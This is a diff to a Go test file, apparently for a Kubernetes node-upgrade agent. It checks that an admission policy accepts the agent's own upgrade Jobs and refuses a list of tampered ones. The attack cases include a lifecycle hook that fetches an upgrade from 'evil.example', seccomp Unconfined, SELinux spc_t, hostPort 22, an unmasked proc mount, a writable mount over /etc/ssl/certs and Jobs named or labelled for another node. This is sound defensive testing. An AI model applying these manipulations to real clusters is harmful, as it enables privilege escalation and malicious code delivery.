@@ -41,12 +41,18 @@ func agentOnA(ctx context.Context, t *testing.T) (*rest.Config, kubernetes.Inter
 // legitJob is the Job the agent on node-a really creates for a slot of ch.
 func legitJob(t *testing.T, ch *v1.UpdateChannel) *batchv1.Job {
 	t.Helper()
-	j, err := agent.UpgradeJob(agent.Options{NodeName: "node-a", Image: agentOpts.Image, Namespace: agentOpts.Namespace}, ch,
+	return legitJobs(t, ch)[agent.JobUpgrade]
+}
+
+// legitJobs are the Jobs of every kind the agent on node-a really creates for a slot of ch.
+func legitJobs(t *testing.T, ch *v1.UpdateChannel) map[string]*batchv1.Job {
+	t.Helper()
+	jobs, err := agent.Jobs(agent.Options{NodeName: "node-a", Image: agentOpts.Image, Namespace: agentOpts.Namespace}, ch,
 		v1.Slot{Node: "node-a", Version: "v2", Attempt: 1, Since: metav1.Now()})
 	if err != nil {
 		t.Fatal(err)
 	}
-	return j
+	return jobs
 }
 
 func channelOf(spec v1.UpdateChannelSpec) *v1.UpdateChannel {
@@ -63,7 +69,6 @@ func TestAgentCreatesOnlyItsOwnNodesUpgradeJobs(t *testing.T) {
 	jobs := asAgent.BatchV1().Jobs(agentOpts.Namespace)
 	dry := metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}
 	mirror := legitJob(t, channelOf(v1.UpdateChannelSpec{URL: "file:///srv/mirror", Version: "v2"}))
-	github := legitJob(t, channelOf(v1.UpdateChannelSpec{URL: "github-releases://o/r", Version: "v2", TokenSecretRef: &v1.SecretKeyRef{Name: "gh-token"}}))
 	waitPolicy(t, "upgrade Jobs", func() error {
 		j := mirror.DeepCopy()
 		j.Spec.Template.Spec.NodeName = "node-b"
@@ -72,10 +77,15 @@ func TestAgentCreatesOnlyItsOwnNodesUpgradeJobs(t *testing.T) {
 	})
 	resolved := channelOf(v1.UpdateChannelSpec{URL: "github-releases://o/r", Version: "v2"})
 	resolved.Status.Resolved = &v1.ResolvedRelease{Version: "v2", Source: "https://github.example/o/r/releases", At: metav1.Now()}
-	for name, j := range map[string]*batchv1.Job{"mirror channel": mirror, "github channel with its token": github,
-		"github channel from its repository's download address": legitJob(t, resolved)} {
-		if _, err := jobs.Create(ctx, j, dry); err != nil {
-			t.Errorf("the agent's own %s Job is refused: %v", name, err)
+	for name, ch := range map[string]*v1.UpdateChannel{"mirror channel": channelOf(v1.UpdateChannelSpec{URL: "file:///srv/mirror", Version: "v2"}),
+		"github channel with its token":                         channelOf(v1.UpdateChannelSpec{URL: "github-releases://o/r", Version: "v2", TokenSecretRef: &v1.SecretKeyRef{Name: "gh-token"}}),
+		"github channel from its repository's download address": resolved,
+		"mirror channel with the longest upgradeTimeout (a week)": channelOf(v1.UpdateChannelSpec{URL: "file:///srv/mirror", Version: "v2",
+			UpgradeTimeout: &metav1.Duration{Duration: 7 * 24 * time.Hour}})} {
+		for kind, j := range legitJobs(t, ch) {
+			if _, err := jobs.Create(ctx, j, dry); err != nil {
+				t.Errorf("the agent's own %s Job of a %s is refused: %v", kind, name, err)
+			}
 		}
 	}
 	attacks := map[string]func(*batchv1.Job){
@@ -128,6 +138,72 @@ func TestAgentCreatesOnlyItsOwnNodesUpgradeJobs(t *testing.T) {
 		},
 		"with an init container": func(j *batchv1.Job) {
 			j.Spec.Template.Spec.InitContainers = []corev1.Container{{Name: "i", Image: agentOpts.Image}}
+		},
+		// What a deny-list admitted: the Job is compared with its canonical shape.
+		"running another slipway command in a lifecycle hook": func(j *batchv1.Job) {
+			c(j).Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"slipway", "ops", "upgrade", "--source", "https://evil.example/"}}}}
+		},
+		"running another slipway command in a probe": func(j *batchv1.Job) {
+			c(j).StartupProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"slipway", "ops", "rollback"}}}}
+		},
+		"with seccomp Unconfined": func(j *batchv1.Job) {
+			c(j).SecurityContext.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
+		},
+		"with the pod's seccomp Unconfined": func(j *batchv1.Job) {
+			j.Spec.Template.Spec.SecurityContext = &corev1.PodSecurityContext{SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}}
+		},
+		"as SELinux spc_t":     func(j *batchv1.Job) { c(j).SecurityContext.SELinuxOptions = &corev1.SELinuxOptions{Type: "spc_t"} },
+		"with a hostPort":      func(j *batchv1.Job) { c(j).Ports = []corev1.ContainerPort{{ContainerPort: 22, HostPort: 22}} },
+		"system-node-critical": func(j *batchv1.Job) { j.Spec.Template.Spec.PriorityClassName = "system-node-critical" },
+		"with a writable volume over /etc/ssl/certs": func(j *batchv1.Job) {
+			c(j).VolumeMounts = append(c(j).VolumeMounts, corev1.VolumeMount{Name: "system", MountPath: "/etc/ssl/certs"})
+		},
+		"with a manual selector": func(j *batchv1.Job) {
+			j.Spec.ManualSelector = ptr.To(true)
+			j.Spec.Selector = &metav1.LabelSelector{MatchLabels: map[string]string{protocol.LabelJobNode: "node-a"}}
+		},
+		"of parallelism 10000": func(j *batchv1.Job) {
+			j.Spec.Parallelism, j.Spec.Completions = ptr.To[int32](10000), ptr.To[int32](10000)
+		},
+		"with a pod label drains leave alone": func(j *batchv1.Job) {
+			j.Spec.Template.Labels[protocol.LabelAppName] = protocol.ControllerApp
+		},
+		"with the proc mount unmasked": func(j *batchv1.Job) {
+			j.Spec.Template.Spec.HostUsers, c(j).SecurityContext.ProcMount = ptr.To(false), ptr.To(corev1.UnmaskedProcMount)
+		},
+		"with a sysctl": func(j *batchv1.Job) {
+			j.Spec.Template.Spec.SecurityContext = &corev1.PodSecurityContext{Sysctls: []corev1.Sysctl{{Name: "kernel.shm_rmid_forced", Value: "1"}}}
+		},
+		"with another system directory flag": func(j *batchv1.Job) { c(j).Args = append(c(j).Args, "--system-dir", "/run/k3os") },
+		"with an unknown flag":               func(j *batchv1.Job) { c(j).Args = append(c(j).Args, "--config", "/etc/evil") },
+		"suspended":                          func(j *batchv1.Job) { j.Spec.Suspend = ptr.To(true) },
+		"managed by another controller":      func(j *batchv1.Job) { j.Spec.ManagedBy = ptr.To("example.com/evil") },
+		"kept for ever":                      func(j *batchv1.Job) { j.Spec.TTLSecondsAfterFinished = nil },
+		"with a finalizer on its pod":        func(j *batchv1.Job) { j.Spec.Template.Finalizers = []string{"example.com/pin"} },
+		// Its identity: every name, label and annotation a reader trusts is its own node's.
+		"named for another node": func(j *batchv1.Job) {
+			j.Name = protocol.JobName(protocol.JobKindUpgrade, "node-b", "v2", "abcdef", "1")
+		},
+		"named for a node whose name extends its own": func(j *batchv1.Job) {
+			j.Name = protocol.JobName(protocol.JobKindUpgrade, "node-a-b", "v2", "abcdef", "1")
+		},
+		"named as a staging Job": func(j *batchv1.Job) { j.Name = protocol.JobName(protocol.JobKindStage, "node-a", "v2", "abcdef", "1") },
+		"with a generated name": func(j *batchv1.Job) {
+			j.Name, j.GenerateName = "", protocol.JobNamePrefix(protocol.JobKindUpgrade, "node-a")
+		},
+		"labelled for another node": func(j *batchv1.Job) {
+			j.Labels[protocol.LabelJobNode] = "node-b"
+			j.Spec.Template.Labels[protocol.LabelJobNode] = "node-b"
+		},
+		"with its pod labelled for another node": func(j *batchv1.Job) { j.Spec.Template.Labels[protocol.LabelJobNode] = "node-b" },
+		"annotated for another node": func(j *batchv1.Job) {
+			j.Annotations[protocol.AnnotationJobNode] = "node-b"
+			j.Spec.Template.Annotations[protocol.AnnotationJobNode] = "node-b"
+		},
+		"with its pod annotated for another node": func(j *batchv1.Job) { j.Spec.Template.Annotations[protocol.AnnotationJobNode] = "node-b" },
+		"a staging Job under an upgrade's name": func(j *batchv1.Job) {
+			j.Annotations[protocol.AnnotationJobAction] = protocol.JobActionStage
+			j.Spec.Template.Annotations[protocol.AnnotationJobAction] = protocol.JobActionStage
 		},
 	}
 	for name, edit := range attacks {
